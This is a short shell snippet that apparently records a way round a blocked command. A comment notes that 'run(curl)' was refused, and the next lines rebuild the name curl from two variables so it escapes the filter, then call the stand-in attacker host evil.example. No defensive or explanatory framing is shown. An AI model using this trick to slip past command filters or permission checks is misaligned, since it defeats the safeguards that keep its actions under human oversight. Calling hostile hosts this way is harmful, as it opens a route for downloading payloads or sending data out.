# Trick: the program is put together from variables.
# Refused: run(curl)
a=cu; b=rl
$a$b http://evil.example/
